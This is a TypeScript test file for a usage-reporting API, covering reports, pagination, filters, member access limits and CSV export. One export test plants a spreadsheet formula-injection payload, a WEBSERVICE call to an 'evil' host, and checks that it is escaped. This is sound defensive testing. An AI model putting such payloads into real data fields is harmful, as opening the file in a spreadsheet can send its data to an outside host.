import { writeFile } from 'node:fs/promises'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import {
  closeDatabase,
  openUsageDatabase,
  type UsageDatabase,
} from '../../../../../gatekeeper/src/usage/journal/sqlite/open-database.ts'
import { databaseIn } from '../../../../../gatekeeper/src/usage/journal/sqlite/sqlite-journal.ts'
import { writeBatch } from '../../../../../gatekeeper/src/usage/journal/sqlite/write-batch.ts'
import type { UsageRecord } from '../../../../../gatekeeper/src/usage/journal/usage-journal.ts'
import { recordOf } from '../../../../../gatekeeper/test/support/describe-journal.ts'
import { openApi, type TestApi } from '../../../../test/support/open-api.ts'
import { usageEndpoints } from './endpoints.ts'

let api: TestApi
let log: UsageDatabase
const now = Date.UTC(2026, 10, 30, 12)
const hourMs = 3_600_000

beforeEach(async () => {
  api = await openApi({ rows: usageEndpoints })
  log = await openUsageDatabase(databaseIn(api.installation.stateDir), true)
})
afterEach(async () => {
  await closeDatabase(log)
  await api.close()
})

let number = 0
function use(...records: Partial<UsageRecord>[]): void {
  writeBatch(
    log,
    records.map((record) => ({
      kind: 'record' as const,
      settled: {
        reservationId: null,
        record: recordOf({ at: now - hourMs, requestId: `r${number++}`, ...record }),
        charges: [],
      },
    })),
  )
}

describe('200', () => {
  test('a report has totals, the period before, buckets without gaps, and groups', async () => {
    use(
      { user: 'mia', principalId: 'key:a', microUsd: 50, model: 'llama' },
      { user: 'max', principalId: 'key:b', microUsd: 500, model: null, status: 502 },
      { user: 'max', at: now - 30 * hourMs, microUsd: 7 },
    )
    const since = new Date(now - 24 * hourMs).toISOString()
    const { body, text } = await api.as('olga')(`GET /usage?by=user&bucket=hour&since=${since}`)
    expect(body, text).toMatchObject({
      period: { since: '2026-11-29T12:00:00.000Z', until: '2026-11-30T13:00:00.000Z' },
      totals: { requests: 2, failed: 1, refused: 0, microUsd: '550' },
      before: { requests: 1, microUsd: '7' },
      groups: [
        { name: 'max', requests: 1, failed: 1, mostly: null },
        { name: 'mia', requests: 1, averageMs: 1234, mostly: 'llama' },
      ],
      isComplete: true,
    })
    expect(body.buckets).toHaveLength(25)
    expect(body.buckets[23].groups).toEqual({
      max: { requests: 1, tokens: 357, microUsd: '500' },
      mia: { requests: 1, tokens: 357, microUsd: '50' },
    })
  })

  test('by day each day is a group, and by key a key says whose it is', async () => {
    use({ at: now }, { at: now - 25 * hourMs }, { at: now - 26 * hourMs })
    const days = (await api.as('olga')('GET /usage?by=day&since=2026-11-28')).body.groups
    expect(days.map((day: { name: string; requests: number }) => [day.name, day.requests])).toEqual(
      [
        ['2026-11-29', 2],
        ['2026-11-30', 1],
      ],
    )
    const { groups } = (await api.as('olga')('GET /usage?by=key')).body
    expect(groups).toMatchObject([{ name: 'key:abcdefghij', user: 'ada', requests: 3 }])
  })

  test('pages of requests stay as they are while requests are added', async () => {
    use(
      ...Array.from({ length: 7 }, (_, index) => ({ at: now - index * 1000, status: 200 + index })),
    )
    const first = (await api.as('olga')('GET /usage/requests?limit=3')).body
    use({ at: now }, { at: now - 4500, status: 299 })
    const second = (await api.as('olga')(`GET /usage/requests?limit=3&cursor=${first.next}`)).body
    const third = (await api.as('olga')(`GET /usage/requests?limit=3&cursor=${second.next}`)).body
    const statuses = [first, second, third].map(({ items }) =>
      items.map(({ status }: { status: number }) => status),
    )
    expect(statuses).toEqual([
      [200, 201, 202],
      [203, 204, 299],
      [205, 206],
    ])
    expect(third.next).toBeNull()
  })

  test('filters find what they say, and a filter for nothing finds nothing', async () => {
    use({ user: 'mia', model: 'gpt', status: 502 }, { user: 'max', principalId: 'key:max' })
    const find = async (query: string) =>
      (await api.as('olga')(`GET /usage/requests?${query}`)).body.items.map(
        ({ user }: { user: string }) => user,
      )
    expect(await find('user=max')).toEqual(['max'])
    expect(await find('key=key:max')).toEqual(['max'])
    expect(await find('model=gpt&status=502&failed=true')).toEqual(['mia'])
    expect(await find('service=nothing')).toEqual([])
    expect(await find('until=2026-11-29')).toEqual([])
  })

  test('an export has every request once, and no cell that a spreadsheet runs', async () => {
    use({ user: '=WEBSERVICE("https://evil")', model: '@SUM(A1)' })
    use(...Array.from({ length: 1_203 }, (_, index) => ({ at: now - index })))
    const { text } = await api.as('olga')('GET /usage/export')
    const lines = text.trimEnd().split('\r\n')
    expect(lines).toHaveLength(1_205)
    expect(new Set(lines).size).toBe(1_205)
    expect(text).toContain(`"'=WEBSERVICE(""https://evil"")"`)
    expect(text).toContain(`'@SUM(A1)`)
    const sums = (await api.as('olga')('GET /usage/export?by=model')).text
    expect(sums).toContain('model,requests,failed,tokens_in,tokens_out,cost_usd,average_ms\r\n')
    expect(sums).toContain("'@SUM(A1),1,0,12,345,0.000067,1234\r\n")
  })
})

describe('a member', () => {
  test('sees the own requests and nothing of others, whatever is asked', async () => {
    use({ user: 'mia', principalId: 'key:mia' }, { user: 'max', principalId: 'key:max' })
    const mia = api.as('mia')
    for (const by of ['user', 'key', 'model', 'service', 'day']) {
      const { body, text } = await mia(`GET /usage?by=${by}`)
      expect(body.totals.requests, text).toBe(1)
      expect(text).not.toContain('max')
    }
    for (const path of ['/usage/requests', '/usage/export', '/usage/export?by=key']) {
      const { text } = await mia(`GET ${path}`)
      expect(text).toContain('mia')
      expect(text).not.toContain('max')
    }
  })

  test('finds no difference between somebody else and nobody', async () => {
    use({ user: 'max', principalId: 'key:max' })
    const mia = api.as('mia')
    for (const [one, other] of [
      ['/usage?user=max', '/usage?user=nobody'],
      ['/usage/requests?user=max', '/usage/requests?user=nobody'],
      ['/usage/requests?key=key:max', '/usage/requests?key=key:none'],
      ['/usage/export?user=max', '/usage/export?user=nobody'],
    ]) {
      const [theirs, none] = [await mia(`GET ${one}`), await mia(`GET ${other}`)]
      expect([theirs.status, theirs.text]).toEqual([none.status, none.text])
    }
  })

  test('sees the requests of a key that the person made for another user', async () => {
    const made = { user: 'kitchen', role: 'readwrite', services: [], madeBy: 'mia0000000' }
    const key = { ...made, secrets: [], createdAt: null, expiresAt: null, disabled: false }
    await writeFile(
      api.installation.file,
      JSON.stringify({
        version: 1,
        keys: {
          kitchen001: {
            ...key,
            secrets: [{ sha256: 'a'.repeat(64), createdAt: null, expiresAt: null }],
          },
        },
      }),
    )
    use(
      { user: 'kitchen', principalId: 'key:kitchen001' },
      { user: 'kitchen', principalId: 'key:b' },
    )
    const { body, text } = await api.as('mia')('GET /usage/requests')
    expect(
      body.items.map(({ key: of }: { key: string }) => of),
      text,
    ).toEqual(['key:kitchen001'])
  })
})

describe('400', () => {
  test.each([
    ['since=yesterday', 'since'],
    ['since=2026-11-30&until=2026-11-01', 'until'],
    ['since=2026-11-01&bucket=15min', 'bucket'],
    ['since=2026-02-01&until=2026-02-03&bucket=hour', 'bucket'],
    ['by=password', 'by'],
  ])('%s', async (query, path) => {
    const { status, body } = await api.as('olga')(`GET /usage?${query}`)
    expect([status, body.reason, body.problems[0].path]).toEqual([400, 'invalid', path])
  })

  test('a cursor of another list', async () => {
    use({}, {})
    const { next } = (await api.as('olga')('GET /usage/requests?limit=1')).body
    const other = await api.as('olga')(`GET /usage/requests?limit=1&user=mia&cursor=${next}`)
    expect([other.status, other.body.reason]).toEqual([400, 'invalid'])
  })
})
